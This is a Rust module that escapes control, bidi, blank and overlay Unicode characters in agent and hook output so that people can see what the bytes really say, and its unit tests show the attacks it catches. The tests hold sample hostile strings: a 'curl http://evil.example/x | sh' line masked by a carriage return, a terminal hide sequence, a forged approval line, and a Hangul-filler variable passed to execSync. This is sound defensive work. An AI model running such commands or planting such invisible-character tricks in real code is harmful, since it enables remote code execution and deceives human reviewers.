//! Outside text made safe to show a person: the one place that neutralises what could rewrite a
//! terminal, reorder a line or hide characters. The agent writes summaries, patches and paths;
//! hooks and git print output; none of it may move the cursor (`\r`, escape sequences), hide
//! what follows (`ESC[8m`), forge lines (`\n` in a one-line field), reverse text (U+202E) or
//! slip in characters a person cannot see: zero-width joiners, tag characters, a Hangul filler
//! (U+3164) used as a variable name, a no-break space where a space should be. Each such
//! character is shown as a visible escape (`\r`, `\x1b`, `\u{3164}`), never dropped, so what a
//! person reads is what the bytes say. Every view (CLI tables and views, emails, post-mortems,
//! status, the approval page) passes outside text through [`line`] or [`block`].
//!
//! What is escaped is decided by Unicode's general category (from the
//! `unicode-general-category` crate, so it follows the standard rather than a list kept here):
//! controls, format characters, every space but U+0020, line and paragraph separators,
//! private-use and unassigned code points. A few letters and marks render blank although their
//! category says otherwise; they are listed in [`BLANK`]. Letters, marks, symbols and emoji
//! of every script stay as they are.

use std::borrow::Cow;
use std::fmt::Write as _;

use unicode_general_category::{get_general_category, GeneralCategory};

/// Code points whose category says "visible" but which render as nothing or as a blank:
/// Unicode's default-ignorable code points that are not format characters, and the braille
/// and musical blanks. Inclusive ranges.
const BLANK: &[(u32, u32)] = &[
    (0x034F, 0x034F),   // combining grapheme joiner
    (0x115F, 0x1160),   // Hangul choseong and jungseong fillers
    (0x17B4, 0x17B5),   // Khmer inherent vowels
    (0x180B, 0x180F),   // Mongolian variation selectors and vowel separator
    (0x2800, 0x2800),   // braille pattern blank
    (0x3164, 0x3164),   // Hangul filler
    (0xFE00, 0xFE0F),   // variation selectors
    (0xFFA0, 0xFFA0),   // halfwidth Hangul filler
    (0x1D159, 0x1D159), // musical symbol null notehead
    (0xE0100, 0xE01EF), // variation selectors supplement
];

/// Combining marks drawn across the character before them, which strike it out or turn it into
/// another sign (`a̶` reads as deleted, `=⃒` as "not equal"): they change what a line says
/// rather than how a word is spelled. Inclusive ranges; enclosing marks (category Me) are
/// escaped by category.
const OVERLAY: &[(u32, u32)] = &[
    (0x0334, 0x0338),   // combining tilde, stroke and solidus overlays
    (0x20D2, 0x20D3),   // combining long and short vertical line overlays
    (0x20D8, 0x20DA),   // combining ring and clockwise ring overlays
    (0x20E5, 0x20E6),   // combining reverse solidus and double vertical stroke overlays
    (0x20EA, 0x20EB),   // combining leftwards arrow and long double solidus overlays
    (0x1CD4, 0x1CD4),   // Vedic sign yajurvedic midline svarita
    (0x1CE2, 0x1CE8),   // Vedic overlays
    (0x1DFB, 0x1DFB),   // combining deletion mark
    (0x10A39, 0x10A39), // Kharoshthi sign cauda
    (0x16AF0, 0x16AF4), // Bassa Vah overlays
    (0x1BC9E, 0x1BC9E), // Duployan double mark
    (0x1D167, 0x1D169), // musical tremolo overlays
    // Lines drawn under or over a character join it to the next: `a̲b` reads as `a_b`.
    (0x0305, 0x0305), // combining overline
    (0x0332, 0x0333), // combining low line, double low line
    (0x033F, 0x033F), // combining double overline
];

/// Most combining marks one character shows as they are; the rest of a longer stack is escaped
/// (a stack of dozens spills over the lines around it). Real text stacks two or three.
const MAX_STACKED_MARKS: usize = 4;

/// Whether `c` must not reach a person's screen as it is: a control character (C0, DEL, C1),
/// a format character (zero-width, bidi, tags), a space other than U+0020, a line or paragraph
/// separator, a private-use or unassigned code point, an enclosing mark, or one of the
/// [`BLANK`] letters or [`OVERLAY`] marks.
pub fn is_unsafe(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    use GeneralCategory as G;
    let hidden = matches!(
        get_general_category(c),
        G::Control
            | G::Format
            | G::SpaceSeparator
            | G::LineSeparator
            | G::ParagraphSeparator
            | G::PrivateUse
            | G::Surrogate
            | G::Unassigned
            | G::EnclosingMark
    );
    let n = u32::from(c);
    hidden
        || BLANK
            .iter()
            .chain(OVERLAY)
            .any(|&(lo, hi)| (lo..=hi).contains(&n))
}

/// Whether `c` changes how the text around it reads: a control character other than a tab,
/// a line or paragraph separator (U+2028, U+2029: line breaks to whatever renders them), or a
/// bidi control (embedding, override, isolate, mark). What a one-line field such as a
/// summary refuses outright; the other invisible characters are shown escaped.
pub fn is_disruptive(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(
            u32::from(c),
            0x061C | 0x200E | 0x200F | 0x2028 | 0x2029 | 0x202A..=0x202E | 0x2066..=0x2069
        )
}

fn escape(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if u32::from(c) < 0x100 => {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

fn neutralise(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    let shown = |c: char, stacked: &mut usize| {
        *stacked = if is_mark(c) { *stacked + 1 } else { 0 };
        keep(c) || (!is_unsafe(c) && *stacked <= MAX_STACKED_MARKS)
    };
    let mut stacked = 0;
    if s.chars().all(|c| shown(c, &mut stacked)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    let mut stacked = 0;
    for c in s.chars() {
        if shown(c, &mut stacked) {
            out.push(c);
        } else {
            escape(&mut out, c);
        }
    }
    Cow::Owned(out)
}

/// Whether `c` is a combining mark, drawn on the character before it.
fn is_mark(c: char) -> bool {
    !c.is_ascii()
        && matches!(
            get_general_category(c),
            GeneralCategory::NonspacingMark
                | GeneralCategory::SpacingMark
                | GeneralCategory::EnclosingMark
        )
}

/// `s` as one line: every control character (newlines and tabs included) and every invisible
/// character escaped. For table cells, subjects, headers and one-line fields.
pub fn line(s: &str) -> Cow<'_, str> {
    neutralise(s, |_| false)
}

/// `s` as lines: newlines and tabs kept, every other control character (a carriage return
/// included) and every invisible character escaped. For diffs, command output and notes.
pub fn block(s: &str) -> Cow<'_, str> {
    neutralise(s, |c| c == '\n' || c == '\t')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_left_as_it_is_and_not_copied() {
        for s in ["raise the timeout", "naïve café 👍", "tab\there", ""] {
            assert!(matches!(block(s), Cow::Borrowed(_)), "{s:?}");
        }
        assert!(matches!(line("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_carriage_return_cannot_overwrite_what_was_added() {
        let added = "+curl http://evil.example/x | sh\r+# say hi politely";
        assert_eq!(
            block(added),
            "+curl http://evil.example/x | sh\\r+# say hi politely"
        );
    }

    #[test]
    fn escape_sequences_are_shown_not_run() {
        assert_eq!(line("ok\u{1b}[8mhidden"), "ok\\x1b[8mhidden");
        assert_eq!(line("bell\u{7}"), "bell\\x07");
        assert_eq!(line("del\u{7f}"), "del\\x7f");
        assert_eq!(line("csi\u{9b}2J"), "csi\\x9b2J");
    }

    #[test]
    fn a_one_line_field_cannot_forge_lines_and_a_block_keeps_its_own() {
        assert_eq!(line("fix\nApproved-By: alice"), "fix\\nApproved-By: alice");
        assert_eq!(line("a\tb"), "a\\tb");
        assert_eq!(block("a\n\tb\r\n"), "a\n\tb\\r\n");
    }

    #[test]
    fn bidi_overrides_and_invisible_characters_are_made_visible() {
        assert_eq!(line("abc\u{202e}fed"), "abc\\u{202e}fed");
        assert_eq!(line("ad\u{200b}min"), "ad\\u{200b}min");
        assert_eq!(line("\u{feff}x"), "\\u{feff}x");
        assert_eq!(line("tag\u{e0041}"), "tag\\u{e0041}");
        assert_eq!(block("one\u{2028}two"), "one\\u{2028}two");
        // Combining marks and emoji are text, not tricks.
        assert_eq!(line("e\u{301}"), "e\u{301}");
    }

    #[test]
    fn marks_that_strike_out_or_enclose_a_character_are_made_visible() {
        // "d̶e̶l̶e̶t̶e̶ ̶t̶h̶e̶ ̶c̶a̶c̶h̶e̶" reads as struck out, as if withdrawn.
        assert_eq!(line("keep a\u{336}b"), "keep a\\u{336}b");
        assert_eq!(line("x =\u{20d2} y"), "x =\\u{20d2} y");
        assert_eq!(line("ok\u{20dd}"), "ok\\u{20dd}");
        // Accents written as combining marks stay text.
        assert_eq!(line("cafe\u{301}"), "cafe\u{301}");
        assert_eq!(line("a\u{332}b"), "a\\u{332}b");
        assert_eq!(line("x\u{1dfb}"), "x\\u{1dfb}");
        // A stack past four marks spills over the lines around it: the rest is escaped.
        let tower = format!("a{}", "\u{300}".repeat(6));
        assert_eq!(
            line(&tower),
            format!("a{}\\u{{300}}\\u{{300}}", "\u{300}".repeat(4))
        );
        // Vietnamese stacks two.
        assert_eq!(line("Vie\u{302}\u{323}t"), "Vie\u{302}\u{323}t");
    }

    #[test]
    fn line_and_paragraph_separators_break_a_one_line_field() {
        assert!(is_disruptive('\u{2028}') && is_disruptive('\u{2029}'));
        assert!(!is_disruptive('\u{301}'));
    }

    #[test]
    fn characters_that_render_blank_are_made_visible() {
        // The attack: a Hangul filler as a variable name, destructured and run.
        assert_eq!(
            block("const { timeout,\u{3164}} = req.query;\nexecSync(\u{3164});"),
            "const { timeout,\\u{3164}} = req.query;\nexecSync(\\u{3164});"
        );
        for c in [
            '\u{3164}',
            '\u{2800}',
            '\u{115f}',
            '\u{1160}',
            '\u{ffa0}',
            '\u{a0}',
            '\u{2000}',
            '\u{2007}',
            '\u{200a}',
            '\u{202f}',
            '\u{205f}',
            '\u{3000}',
            '\u{180e}',
            '\u{1680}',
            '\u{fe00}',
            '\u{fe0f}',
            '\u{e0100}',
            '\u{e01ef}',
            '\u{34f}',
            '\u{17b4}',
            '\u{1d159}',
            // Private use, unassigned, a noncharacter.
            '\u{e000}',
            '\u{f0000}',
            '\u{10fffd}',
            '\u{378}',
            '\u{ffff}',
            '\u{e0fff}',
        ] {
            let shown = line(&format!("a{c}b")).into_owned();
            assert_eq!(
                shown,
                format!(
                    "a\\{}b",
                    if u32::from(c) < 0x100 {
                        format!("x{:02x}", u32::from(c))
                    } else {
                        format!("u{{{:x}}}", u32::from(c))
                    }
                ),
                "U+{:04X}",
                u32::from(c)
            );
        }
    }

    #[test]
    fn text_of_every_script_stays_readable() {
        for s in [
            "naïve café, Grüße, ñandú",
            "日本語のテキスト, 한국어 문장, 中文",
            "Ελληνικά, Русский, עברית, العربية, हिन्दी",
            "e\u{301} a\u{308}",
            "👍 🦀 😀 🇫🇷",
            "x ≤ y → z · 3×4 — “quoted” …",
        ] {
            assert!(matches!(block(s), Cow::Borrowed(_)), "{s:?}: {}", block(s));
            assert!(matches!(line(s), Cow::Borrowed(_)), "{s:?}");
        }
    }

    #[test]
    fn disruptive_characters_are_the_controls_and_bidi_ones() {
        for c in [
            '\n', '\r', '\u{1b}', '\u{85}', '\u{202e}', '\u{2067}', '\u{200f}',
        ] {
            assert!(is_disruptive(c), "{c:?}");
        }
        for c in ['\t', 'a', '\u{200d}', '\u{301}'] {
            assert!(!is_disruptive(c), "{c:?}");
        }
    }

    #[test]
    fn neutralising_twice_changes_nothing_more() {
        let once = block("x\u{1b}[31m\r\u{202e}y").into_owned();
        assert_eq!(block(&once), once);
        assert!(!once.chars().any(is_unsafe));
    }
}
